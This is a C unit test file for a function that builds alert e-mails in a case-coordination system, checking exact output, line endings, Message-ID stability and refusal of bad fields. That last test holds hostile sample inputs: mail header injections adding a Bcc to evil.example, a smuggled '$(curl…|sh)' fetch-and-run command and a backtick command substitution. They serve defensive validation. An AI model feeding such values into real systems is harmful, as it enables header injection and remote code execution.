/*
 * test_mail_text.c - the text of an alert's mail (node_mail_text,
 * node/alert/mail_text.c): what goes in (the case, the kind of event, the
 * partner's id and name, the alert's number, when, the command that
 * shows it) and what never does: the whole mail is exactly the expected
 * text, so nothing else can be in it; a field that would start a line of
 * its own (a header of its own) is refused, not written; the Message-ID
 * is the alert's, whatever else changes.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include <string.h>

#include "node/alert/mail.h"

static const char *const FROM = "wijknet@gemeente.example";
static const char *const TO = "team@gemeente.example, lead@gemeente.example";

static struct node_mail_alert
alert(void)
{
	struct node_mail_alert a = {
		.id = 42,
		.time_ms = 1796691600000LL, /* 2026-12-08 01:00:00 UTC */
		.kind = "action.done",
		.case_id = "C-7f3a",
		.partner = "housing",
		.partner_name = "Woonbron Zuid",
		.ref = 3,
		.role = "director",
		.org_id = "gemeente",
		.org_name = "Gemeente Neteland",
	};
	return a;
}

static void
test_the_whole_mail_is_exactly_this(void **state)
{
	struct node_mail_alert a = alert();
	char buf[8192];
	size_t len = 0;
	(void)state;
	static const char want[] =
	    "From: wijknet@gemeente.example\r\n"
	    "To: team@gemeente.example, lead@gemeente.example\r\n"
	    "Subject: wijknet: action.done in case C-7f3a\r\n"
	    "Date: Tue, 08 Dec 2026 01:00:00 +0000\r\n"
	    "Message-ID: <alert-42.gemeente.wijknet@gemeente.example>\r\n"
	    "Auto-Submitted: auto-generated\r\n"
	    "X-Wijknet-Alert: 42\r\n"
	    "MIME-Version: 1.0\r\n"
	    "Content-Type: text/plain; charset=utf-8\r\n"
	    "Content-Transfer-Encoding: 8bit\r\n"
	    "\r\n"
	    "Case C-7f3a: action 3 is done.\r\n"
	    "\r\n"
	    "Case:      C-7f3a\r\n"
	    "Event:     action.done\r\n"
	    "Partner:   housing (Woonbron Zuid)\r\n"
	    "When:      2026-12-08 01:00 UTC\r\n"
	    "Alert:     42 on node gemeente (Gemeente Neteland)\r\n"
	    "Because:   this node directs the case\r\n"
	    "\r\n"
	    "Where to look, on node gemeente:\r\n"
	    "    wijknet action list --case C-7f3a\r\n"
	    "\r\n"
	    "This mail holds no personal data: who the case is about and "
	    "what was\r\nwritten stay on the node, for those allowed to see "
	    "them.\r\n";
	assert_int_equal(node_mail_text(&a, FROM, TO, buf, sizeof(buf), &len),
	    WN_OK);
	assert_string_equal(buf, want);
	assert_int_equal(len, strlen(want));
}

/* every line ends in CRLF (no bare CR or LF) and fits SMTP's 998 */
static void
lines_ok(const char *s)
{
	const char *p = s;
	while (*p) {
		const char *e = strstr(p, "\r\n");
		assert_non_null(e);
		assert_true(e - p <= 998);
		for (const char *q = p; q < e; q++)
			assert_true(*q != '\r' && *q != '\n');
		p = e + 2;
	}
}

static void
test_each_kind_says_where_to_look(void **state)
{
	static const struct {
		const char *kind, *look;
	} k[] = {
		{"action.assigned", "wijknet action list --case C-7f3a"},
		{"action.late", "wijknet action list --case C-7f3a"},
		{"action.cancelled", "wijknet action list --case C-7f3a"},
		{"share.requested", "wijknet case show C-7f3a"},
		{"share.answered", "wijknet data list --case C-7f3a"},
		{"dossier.changed", "wijknet data list --case C-7f3a"},
		{"consent.withdrawn", "wijknet data list --case C-7f3a"},
		{"decision.made", "wijknet meeting show 3"},
		{"phenomenon.proposed", "wijknet phenomenon show 3"},
		{"match.found", "wijknet alerts --case C-7f3a"},
	};
	(void)state;
	for (size_t i = 0; i < sizeof(k) / sizeof(k[0]); i++) {
		struct node_mail_alert a = alert();
		char buf[8192], look[200];
		size_t len;
		a.kind = k[i].kind;
		node_mail_look(&a, look, sizeof(look));
		assert_string_equal(look, k[i].look);
		assert_int_equal(node_mail_text(&a, FROM, TO, buf, sizeof(buf),
				     &len), WN_OK);
		assert_non_null(strstr(buf, k[i].look));
		assert_non_null(strstr(buf, k[i].kind));
		lines_ok(buf);
	}
}

static void
test_the_owner_hears_of_its_own_action(void **state)
{
	struct node_mail_alert a = alert();
	char buf[8192];
	size_t len;
	(void)state;
	a.kind = "action.assigned";
	a.role = "owner";
	a.partner = "dir";
	a.partner_name = "";
	assert_int_equal(node_mail_text(&a, FROM, "acties@woonbron.example",
			     buf, sizeof(buf), &len), WN_OK);
	assert_non_null(strstr(buf, "action 3 was given to this node"));
	assert_non_null(strstr(buf, "Partner:   dir\r\n"));
	assert_non_null(strstr(buf, "this node owns the action"));
}

/* the chair of a body hears of a decision at its meeting: where to look
 * names the director that holds the meeting */
static void
test_the_chair_hears_of_a_decision(void **state)
{
	struct node_mail_alert a = alert();
	char buf[8192];
	size_t len;
	(void)state;
	a.kind = "decision.made";
	a.role = "chair";
	a.partner = "dir";
	a.partner_name = "";
	assert_int_equal(node_mail_text(&a, FROM, "overleg@pz.example", buf,
			     sizeof(buf), &len), WN_OK);
	assert_non_null(strstr(buf, "of a body this node chairs"));
	assert_non_null(strstr(buf, "wijknet meeting show 3 --director dir"));
	assert_non_null(strstr(buf, "this node chairs the consultation body"));
	lines_ok(buf);
}

static void
message_id(const char *mail, char *out, size_t cap)
{
	const char *p = strstr(mail, "\r\nMessage-ID: ");
	assert_non_null(p);
	p += 2;
	size_t n = strcspn(p, "\r");
	assert_true(n < cap);
	memcpy(out, p, n);
	out[n] = '\0';
}

/* a mail sent twice is recognisable: its Message-ID is the alert's and
 * the node's, whatever the time or the partner's name say */
static void
test_the_message_id_is_the_alerts(void **state)
{
	struct node_mail_alert a = alert(), b = alert(), c = alert();
	char ma[8192], mb[8192], mc[8192], ia[200], ib[200], ic[200];
	size_t len;
	(void)state;
	b.time_ms += 3600000;
	b.partner_name = "renamed";
	c.id = 43;
	assert_int_equal(node_mail_text(&a, FROM, TO, ma, sizeof(ma), &len),
	    WN_OK);
	assert_int_equal(node_mail_text(&b, FROM, TO, mb, sizeof(mb), &len),
	    WN_OK);
	assert_int_equal(node_mail_text(&c, FROM, TO, mc, sizeof(mc), &len),
	    WN_OK);
	message_id(ma, ia, sizeof(ia));
	message_id(mb, ib, sizeof(ib));
	message_id(mc, ic, sizeof(ic));
	assert_string_equal(ia, ib);
	assert_string_not_equal(ia, ic);
}

/* a field that would add a line (a header of its own, a Bcc) or carry
 * what a header cannot is refused, nothing written */
static void
test_a_line_break_in_a_field_is_refused(void **state)
{
	char buf[8192];
	size_t len = 7;
	(void)state;
	for (int i = 0; i < 12; i++) {
		struct node_mail_alert a = alert();
		const char *from = FROM, *to = TO;
		switch (i) {
		case 0: a.case_id = "C-1\r\nBcc: x@evil.example"; break;
		case 1: a.partner = "housing\nBcc: x@evil.example"; break;
		case 2: a.partner_name = "Woonbron\r\n\r\nsubject S-123"; break;
		case 3: a.org_name = "G\nX: y"; break;
		case 4: to = "team@gemeente.example\r\nBcc: x@evil.example"; break;
		case 5: from = "wijknet@gemeente.example\n"; break;
		case 6: a.case_id = "C-\xc3\xa9"; break; /* not ASCII */
		case 7: a.kind = "subject.name"; break;
		case 8: a.role = "concern"; break; /* a match is not mailed */
		/* a directing peer chooses the case id: nothing a shell or a
		 * mail reader would take for more than a name */
		case 9: a.case_id = "$(curl${IFS}x.example|sh)"; break;
		case 10: a.case_id = "=?utf-8?q?Urgent?="; break;
		case 11: a.partner = "p`id`"; break;
		}
		assert_int_equal(node_mail_text(&a, from, to, buf, sizeof(buf),
				     &len), WN_EINVAL);
		assert_int_equal(len, 7);
	}
}

static void
test_a_mail_too_long_for_the_buffer(void **state)
{
	struct node_mail_alert a = alert();
	char buf[200];
	size_t len = 7;
	(void)state;
	assert_int_equal(node_mail_text(&a, FROM, TO, buf, sizeof(buf), &len),
	    WN_ETOOBIG);
	assert_int_equal(len, 7);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_the_whole_mail_is_exactly_this),
	    cmocka_unit_test(test_each_kind_says_where_to_look),
	    cmocka_unit_test(test_the_owner_hears_of_its_own_action),
	    cmocka_unit_test(test_the_chair_hears_of_a_decision),
	    cmocka_unit_test(test_the_message_id_is_the_alerts),
	    cmocka_unit_test(test_a_line_break_in_a_field_is_refused),
	    cmocka_unit_test(test_a_mail_too_long_for_the_buffer),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
